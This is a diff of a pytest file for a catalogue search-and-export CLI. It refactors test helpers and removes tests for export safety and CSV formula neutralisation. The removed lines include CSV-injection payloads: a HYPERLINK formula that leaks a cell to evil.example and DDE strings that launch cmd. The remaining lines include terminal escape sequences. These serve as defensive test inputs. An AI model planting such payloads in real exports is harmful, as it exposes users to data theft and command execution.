@@ -12,7 +12,6 @@ import json
 import os
 import re
 import shutil
-import stat
 import subprocess
 import sys
 import unicodedata
@@ -29,11 +28,13 @@ from conftest import (
     TRAVEL,
     XING_SHI,
     YONG_LE,
+    FakeStdout,
     assert_clean,
     catalog_data,
+    catalogue_with_titles,
     hostile_data,
     line_of,
-    write_catalog,
+    run_cli,
 )
 from rich.console import Console
 
@@ -378,73 +379,10 @@ def test_cli_messages_never_echo_control_characters(
     assert "evil\\x1b]0;pwned\\x07" in err
 
 
-# What the CLI writes is safe: CSV formulas neutralised, no control characters on a terminal, ---------
+# What the CLI writes is safe for a terminal: no control characters reach it ------------------------
 
 
-# The seven ways a cell starts a formula: OWASP's = + - @ tab CR, and LF.
-FORMULAS = [
-    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
-    "+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-]
 HOSTILE = ["标题\x1b]0;pwned\x07\x1b[2J光标", "C1\x9b31m红", "双向\u202eexe.txt\u202c", "零宽\u200b字"]
-
-
-def catalogue_with_titles(tmp_path: Path, titles: list[str]) -> list[str]:
-    data = catalog_data()
-    work = data["works"][0]
-    data["works"] = [{**work, "id": f"w{i}", "title": title} for i, title in enumerate(titles)]
-    catalog_file = write_catalog(tmp_path / "catalog.yaml", data)
-    return ["--catalog", str(catalog_file), "--db", str(tmp_path / "titled_store" / "titled_store.json")]
-
-
-def run_cli(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
-    code = main(list(argv))
-    out, err = capsys.readouterr()
-    assert "Traceback" not in err
-    return code, out, err
-
-
-class FakeStdout(io.TextIOWrapper):
-    """A stdout that is a terminal or a pipe, and keeps the exact bytes written (no newline
-    translation, unlike capsys, so a CR inside a CSV cell stays a CR)."""
-
-    def __init__(self, terminal: bool) -> None:
-        super().__init__(io.BytesIO(), encoding="utf-8")
-        self.terminal = terminal
-
-    def isatty(self) -> bool:
-        return self.terminal
-
-    def written(self) -> str:
-        self.flush()
-        return self.buffer.getvalue().decode("utf-8")  # type: ignore[attr-defined]
-
-
-# CSV formulas ------------------------------------------------------------------------------------
-
-
-def test_csv_export_and_search_neutralise_every_formula(
-    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
-) -> None:
-    titled_store = catalogue_with_titles(tmp_path, FORMULAS)
-    target = tmp_path / "out.csv"
-    assert run_cli(capsys, "export", "", "-o", str(target), *titled_store)[0] == 0
-    pipe = FakeStdout(terminal=False)
-    with monkeypatch.context() as patched:
-        patched.setattr(sys, "stdout", pipe)
-        assert main(["search", "", "--format", "csv", *titled_store]) == 0
-    searched = pipe.written()
-    for text in (target.read_bytes().decode("utf-8-sig"), searched):
-        titles = sorted(row["title"] for row in csv.DictReader(io.StringIO(text, newline="")))
-        assert titles == sorted("'" + formula for formula in FORMULAS)
-    # JSON keeps the data as it is: only a spreadsheet cell needs the quote.
-    _, as_json, _ = run_cli(capsys, "search", "", "--format", "json", *titled_store)
-    assert sorted(w["title"] for w in json.loads(as_json)["works"]) == sorted(FORMULAS)
 
 
 # Control characters ------------------------------------------------------------------------------
@@ -498,92 +436,6 @@ def test_query_errors_and_the_success_line_escape_user_input(
     assert code == 0 and "\x1b" not in out and "out\\x1b]0;t\\x07.yaml" in out
 
 
-# Where exports go --------------------------------------------------------------------------------
-
-
-@pytest.fixture
-def titled_store(tmp_path: Path) -> list[str]:
-    return catalogue_with_titles(tmp_path, ["醒狮", "阿勒泰"])
-
-
-def test_dash_writes_to_stdout(
-    tmp_path: Path, capsys: pytest.CaptureFixture[str], titled_store: list[str]
-) -> None:
-    code, out, _ = run_cli(capsys, "export", "", "-o", "-", *titled_store)
-    assert code == 0 and len(yaml.safe_load(out)["works"]) == 2
-    assert not (Path.cwd() / "-").exists()
-    code, out, _ = run_cli(capsys, "export", "", "-o", "-", "--format", "csv", *titled_store)
-    assert code == 0 and not out.startswith("\ufeff") and len(out.splitlines()) == 3
-
-
-@pytest.mark.parametrize(
-    ("name", "message"),
-    [("out.txt", "cannot tell the format"), ("out", "cannot tell the format"), ("newdir/", "names a folder")],
-)
-def test_names_that_say_no_format_or_a_folder_are_refused(
-    tmp_path: Path, capsys: pytest.CaptureFixture[str], titled_store: list[str], name: str, message: str
-) -> None:
-    code, _, err = run_cli(capsys, "export", "", "-o", f"{tmp_path}/{name}", *titled_store)
-    assert code == 1 and message in err and err.count("\n") == 1
-    assert not (tmp_path / name.rstrip("/")).exists()
-
-
-def test_force_replaces_a_regular_file_only(
-    tmp_path: Path, capsys: pytest.CaptureFixture[str], titled_store: list[str]
-) -> None:
-    regular = tmp_path / "regular.yaml"
-    regular.write_text("old", encoding="utf-8")
-    regular.chmod(0o640)
-    assert run_cli(capsys, "export", "", "-o", str(regular), "--force", *titled_store)[0] == 0
-    assert "醒狮" in regular.read_text(encoding="utf-8")
-    assert stat.S_IMODE(regular.stat().st_mode) == 0o640  # a replaced file keeps its mode
-
-    aim = tmp_path / "aim.yaml"
-    aim.write_text("the link's target", encoding="utf-8")
-    link = tmp_path / "link.yaml"
-    link.symlink_to(aim)
-    fifo = tmp_path / "fifo.yaml"
-    os.mkfifo(fifo)
-    folder = tmp_path / "folder.yaml"
-    folder.mkdir()
-    for target, kind in (
-        (link, "symbolic link"),
-        (fifo, "FIFO"),
-        (folder, "folder"),
-        (Path("/dev/null"), "device"),
-    ):
-        code, _, err = run_cli(capsys, "export", "", "-o", str(target), "--force", *titled_store)
-        assert code == 1 and kind in err, err
-    assert link.is_symlink() and aim.read_text(encoding="utf-8") == "the link's target"
-    assert stat.S_ISFIFO(os.lstat(fifo).st_mode) and folder.is_dir()
-    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)
-
-
-@pytest.mark.skipif(os.geteuid() == 0, reason="root may write a read-only file")
-def test_force_leaves_a_read_only_file_alone(
-    tmp_path: Path, capsys: pytest.CaptureFixture[str], titled_store: list[str]
-) -> None:
-    locked = tmp_path / "locked.yaml"
-    locked.write_text("keep", encoding="utf-8")
-    locked.chmod(0o444)
-    code, _, err = run_cli(capsys, "export", "", "-o", str(locked), "--force", *titled_store)
-    assert code == 1 and "read-only" in err and locked.read_text(encoding="utf-8") == "keep"
-
-
-@pytest.mark.parametrize(("umask", "mode"), [(0o022, 0o644), (0o077, 0o600), (0o002, 0o664)])
-def test_new_exports_follow_the_umask(
-    tmp_path: Path, capsys: pytest.CaptureFixture[str], titled_store: list[str], umask: int, mode: int
-) -> None:
-    target = tmp_path / "new.json"
-    previous = os.umask(umask)
-    try:
-        assert run_cli(capsys, "export", "", "-o", str(target), *titled_store)[0] == 0
-    finally:
-        os.umask(previous)
-    assert stat.S_IMODE(target.stat().st_mode) == mode
-    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []
-
-
 # The command line as analysts' tools expect: its language, option order, totals, progress bar, -------
 
 
@@ -592,37 +444,31 @@ def store_args(catalog_file: Path, db_path: Path) -> list[str]:
     return ["--catalog", str(catalog_file), "--db", str(db_path)]
 
 
-def run_argv(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
-    code = main(list(argv))
-    out, err = capsys.readouterr()
-    return code, out, err
-
-
 # Language ------------------------------------------------------------------------------------------
 
 
 def test_options_are_accepted_after_the_query(store_args: list[str], capsys) -> None:
-    code, out, err = run_argv(capsys, "search", "xingshi", "--lang", "en", *store_args)
+    code, out, err = run_cli(capsys, "search", "xingshi", "--lang", "en", *store_args)
     assert code == 0 and err == "1 work(s)\n" and "醒狮" in out
-    code, _out, err = run_argv(capsys, "--lang", "zh", "search", "xingshi", *store_args)
+    code, _out, err = run_cli(capsys, "--lang", "zh", "search", "xingshi", *store_args)
     assert code == 0 and err == "1 部作品\n"
 
 
 def test_limit_says_how_many_were_found_in_all(store_args: list[str], capsys) -> None:
-    code, out, err = run_argv(capsys, "search", "", "--limit", "3", "--lang", "en", *store_args)
+    code, out, err = run_cli(capsys, "search", "", "--limit", "3", "--lang", "en", *store_args)
     total = len(load_catalog(store_args[1]).works)
     assert code == 0 and len(out.splitlines()) == 3 and err == f"3 of {total} works\n"
-    _code, _out, err = run_argv(capsys, "search", "", "--limit", "3", "--lang", "zh", *store_args)
+    _code, _out, err = run_cli(capsys, "search", "", "--limit", "3", "--lang", "zh", *store_args)
     assert err == f"3 / {total} 部作品\n"
 
 
 def test_messages_follow_the_language(store_args: list[str], tmp_path: Path, capsys) -> None:
-    code, _out, err = run_argv(capsys, "search", "(", "--lang", "zh", *store_args)
+    code, _out, err = run_cli(capsys, "search", "(", "--lang", "zh", *store_args)
     assert code == 2 and err.startswith("catalog-tui：查询有误：这个“(”没有闭合\n")
-    code, _out, err = run_argv(capsys, "search", "(", "--lang", "en", *store_args)
+    code, _out, err = run_cli(capsys, "search", "(", "--lang", "en", *store_args)
     assert code == 2 and err.startswith("catalog-tui: query error: this '(' is never closed\n")
     target = tmp_path / "out.yaml"
-    code, out, _err = run_argv(capsys, "export", "", "-o", str(target), "--lang", "zh", *store_args)
+    code, out, _err = run_cli(capsys, "export", "", "-o", str(target), "--lang", "zh", *store_args)
     assert code == 0 and out.startswith("已写入 ") and out.endswith("（yaml）\n")
 
 
@@ -633,9 +479,9 @@ def test_the_language_comes_from_the_environment_then_the_config_file(
     config.write_text('language = "en"\n', encoding="utf-8")
     monkeypatch.setenv("CATALOG_TUI_CONFIG", str(config))
     monkeypatch.setenv("CATALOG_TUI_LANG", "zh")
-    assert run_argv(capsys, "search", "xingshi", *store_args)[2] == "1 部作品\n"  # $CATALOG_TUI_LANG=zh wins
+    assert run_cli(capsys, "search", "xingshi", *store_args)[2] == "1 部作品\n"  # $CATALOG_TUI_LANG=zh wins
     monkeypatch.delenv("CATALOG_TUI_LANG")
-    assert run_argv(capsys, "search", "xingshi", *store_args)[2] == "1 work(s)\n"
+    assert run_cli(capsys, "search", "xingshi", *store_args)[2] == "1 work(s)\n"
 
 
 @pytest.mark.parametrize("argv", [["--help"], ["search", "--help"], ["export", "--help"]])
@@ -660,7 +506,7 @@ def test_parser_errors_are_in_chinese_with_lang_zh(capsys) -> None:
 
 
 def test_progress_is_silent_when_stderr_is_not_a_terminal(store_args: list[str], capsys) -> None:
-    code, out, err = run_argv(capsys, "seed", "--force", "--lang", "en", *store_args)
+    code, out, err = run_cli(capsys, "seed", "--force", "--lang", "en", *store_args)
     assert code == 0 and err == "" and out.count("\n") == 1
 
 
@@ -686,7 +532,7 @@ def test_seed_draws_a_bar_on_a_terminal_and_ends_it_before_the_summary(
     screen = io.StringIO()
     console = Console(file=screen, force_terminal=True, width=120, color_system=None)
     monkeypatch.setattr(cli, "store_progress", partial(store_progress, console))
-    code, out, _err = run_argv(capsys, "seed", "--force", "--lang", "en", *store_args)
+    code, out, _err = run_cli(capsys, "seed", "--force", "--lang", "en", *store_args)
     assert code == 0 and out.count("\n") == 1  # the summary, alone on its line (stdout)
     drawn = screen.getvalue()
     assert "preparing search data" in drawn and f"/ {len(load_catalog(store_args[1]).works)} works" in drawn
@@ -704,7 +550,7 @@ def a_bug(monkeypatch: pytest.MonkeyPatch) -> None:
 
 
 def test_a_bug_is_one_line_naming_the_log_and_debug(a_bug, capsys) -> None:
-    code, out, err = run_argv(capsys, "validate", "--lang", "en")
+    code, out, err = run_cli(capsys, "validate", "--lang", "en")
     assert code == 1 and out == ""
     assert err == (
         "catalog-tui: unexpected error: RuntimeError: something the code did not expect "
@@ -721,7 +567,7 @@ def test_debug_shows_the_traceback(how: str, a_bug, capsys, monkeypatch: pytest.
         argv.append("--debug")
     else:
         monkeypatch.setenv("CATALOG_TUI_DEBUG", "1")
-    code, _out, err = run_argv(capsys, *argv)
+    code, _out, err = run_cli(capsys, *argv, debug=True)
     assert code == 1
     assert err.startswith("Traceback (most recent call last)") and "RuntimeError: something" in err
     assert err.endswith(f"catalog-tui: the traceback was written to {log_path()}\n")
@@ -730,7 +576,7 @@ def test_debug_shows_the_traceback(how: str, a_bug, capsys, monkeypatch: pytest.
 def test_the_log_keeps_earlier_reports_and_stays_bounded(a_bug, capsys, monkeypatch) -> None:
     monkeypatch.setattr("catalog_tui.core.errorlog.KEEP_BYTES", 1000)
     for _ in range(5):
-        run_argv(capsys, "validate")
+        run_cli(capsys, "validate")
     logged = log_path().read_text(encoding="utf-8")
     assert 1 < logged.count("RuntimeError: something") < 5 and len(logged.encode()) < 1000 + 1000
 
@@ -740,7 +586,7 @@ def test_the_log_keeps_earlier_reports_and_stays_bounded(a_bug, capsys, monkeypa
 
 @pytest.mark.parametrize("shell", ["bash", "zsh", "fish"])
 def test_completion_scripts_name_the_commands_and_options(shell: str, capsys) -> None:
-    code, out, _err = run_argv(capsys, "completion", shell)
+    code, out, _err = run_cli(capsys, "completion", shell)
     assert code == 0
     for word in ("search", "export", "validate", "completion", "--format", "--limit", "--theme"):
         assert word in out
